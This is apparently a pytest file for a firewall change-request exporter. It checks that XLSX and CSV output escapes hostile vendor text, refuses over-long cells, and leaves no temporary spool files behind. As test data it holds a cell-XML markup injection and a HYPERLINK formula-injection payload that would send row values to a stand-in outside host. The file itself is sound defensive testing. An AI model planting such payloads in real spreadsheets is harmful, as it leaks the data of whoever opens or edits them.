"""What a cell of the XLSX change request can hold, and what writing one leaves behind."""

from __future__ import annotations

import csv
import io
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner
from openpyxl import load_workbook

import examples
from portplan.cli import cli
from portplan.report._workbook import CELL_LIMIT, TextSheet, write_workbook


def run(*args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(cli, list(args), env={"COLUMNS": "160"})
    return result.exit_code, result.stdout, result.stderr


def test_a_workbook_stopped_while_written_leaves_no_rows_in_the_temporary_folder(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # XlsxWriter spools each sheet's rows to a file in the temporary folder: a Ctrl-C (or an
    # error) while writing left the rows written so far there, the plan's hosts and addresses
    spool = tmp_path / "tmp"
    spool.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(spool))

    def rows() -> Iterator[list[str]]:
        yield ["shop01", "192.0.2.10"]
        raise KeyboardInterrupt

    sheet = TextSheet("Flows", ["source", "source_address"], rows(), 2, [10, 10])
    with pytest.raises(KeyboardInterrupt):
        write_workbook(io.BytesIO(), [sheet])
    assert list(spool.rglob("*")) == []


def test_an_address_list_longer_than_a_cell_is_refused_not_cut(tmp_path: Path) -> None:
    # XlsxWriter cut the text at 32,767 characters: the request named 2,700 of 3,000
    # addresses and ended in "10." -- less, and other, than the plan says
    deployment = examples.hostile_deployment(tmp_path)
    data = yaml.safe_load(deployment.read_text())
    many = [f"10.{n // 250}.{n % 250}.{n % 200 + 1}" for n in range(3000)]
    data["hosts"]["web01"] = {"addresses": many, "cluster": True, "zone": "servers"}
    deployment.write_text(yaml.safe_dump(data, sort_keys=False))
    code, out, _ = run("matrix", str(deployment), "--format", "csv")
    assert code == 0
    (row,) = csv.DictReader(io.StringIO(out))
    assert row["source_address"] == ", ".join(many)
    assert len(row["source_address"]) > CELL_LIMIT
    workbook = tmp_path / "cr.xlsx"
    code, _, err = run("matrix", str(deployment), "--format", "xlsx", "-o", str(workbook))
    assert code == 2
    assert "source_address of row 2 on sheet 'Flows'" in err
    assert f"its {len(row['source_address']):,} characters" in err
    assert "--format csv or json" in err
    assert "Traceback" not in err
    assert sorted(p.name for p in tmp_path.iterdir()) == [
        "deployment-product.yaml",
        "deployment.yaml",
    ]


def test_a_cell_of_exactly_the_limit_is_written_whole(tmp_path: Path) -> None:
    purpose = "x" * CELL_LIMIT
    deployment = examples.hostile_deployment(tmp_path, purpose=purpose)
    workbook = tmp_path / "cr.xlsx"
    code, _, err = run("matrix", str(deployment), "--format", "xlsx", "-o", str(workbook))
    assert code == 0, err
    header, row = load_workbook(workbook)["Flows"].iter_rows(values_only=True)
    assert dict(zip(header, row, strict=True))["purpose"] == purpose


#: text that XlsxWriter's row-by-row mode took for a rich string it had built itself (it starts
#: with <r> and ends with </r>) and wrote into the sheet's XML as it was: here a formula cell
_MARKUP = (
    '<r><t>x</t></r></is></c><c r="Z2"><f>HYPERLINK("http://203.0.113.9/","open")</f></c>'
    '<c r="Z3" t="inlineStr"><is><r><t>y</t></r>'
)


def test_text_that_looks_like_cell_markup_is_written_as_text(tmp_path: Path) -> None:
    # a vendor's purpose starting with <r> and ending with </r> went into the sheet unescaped:
    # this one added a HYPERLINK formula to the change request, and one holding a bare '&'
    # ("<r>A & B</r>") made the whole workbook unreadable
    broken = "<r>A & B</r>"
    deployment = examples.hostile_deployment(
        tmp_path, purpose=_MARKUP, product=broken, deployment=broken, title=_MARKUP
    )
    workbook = tmp_path / "cr.xlsx"
    code, _, err = run("matrix", str(deployment), "--format", "xlsx", "-o", str(workbook))
    assert code == 0, err
    book = load_workbook(workbook)
    for sheet in ("Flows", "FW servers to data"):
        header, row = book[sheet].iter_rows(values_only=True)
        cells = dict(zip(header, row, strict=True))
        assert (cells["purpose"], cells["justification"]) == (_MARKUP, _MARKUP)
    cover = list(book["Change request"].iter_rows(values_only=True))
    assert cover[0][0] == f"Firewall change request: {broken}"
    assert (broken, "1.0", "", _MARKUP) in {row[:4] for row in cover}
    formulas = [c.coordinate for page in book for line in page.iter_rows() for c in line
                if c.data_type == "f"]  # fmt: skip
    assert formulas == []


def test_text_a_spreadsheet_would_read_as_a_formula_carries_the_quote_prefix(
    tmp_path: Path,
) -> None:
    # the cell held the text "=HYPERLINK(...)" without Excel's own "'" marker (quotePrefix):
    # shown as text, but a firewall engineer who edited the cell (F2, Enter) turned it into a
    # live formula; the CSV gets a leading "'" for the same reason (OWASP, ASVS 1.2.10)
    formula = '=HYPERLINK("http://203.0.113.9/collect?flow="&A2&"&from="&D2,"vendor details")'
    assert len(formula) > 60  # wider than the purpose column: it wraps
    deployment = examples.hostile_deployment(tmp_path, purpose=formula, product="@Hostile")
    workbook = tmp_path / "cr.xlsx"
    code, _, err = run("matrix", str(deployment), "--format", "xlsx", "-o", str(workbook))
    assert code == 0, err
    book = load_workbook(workbook)
    header = [c.value for c in book["Flows"][1]]
    purpose = book["Flows"].cell(2, header.index("purpose") + 1)
    assert (purpose.value, purpose.data_type, purpose.quotePrefix) == (formula, "s", True)
    # the column's wrapping stays with the cell's own format
    assert purpose.alignment.wrap_text
    justification = book["Flows"].cell(2, header.index("justification") + 1)
    assert (justification.value, justification.quotePrefix) == (formula, True)
    flow = book["Flows"].cell(2, header.index("flow") + 1)
    assert not flow.quotePrefix
    (product,) = [
        line[0] for line in book["Change request"].iter_rows() if line[0].value == "@Hostile"
    ]
    assert product.quotePrefix
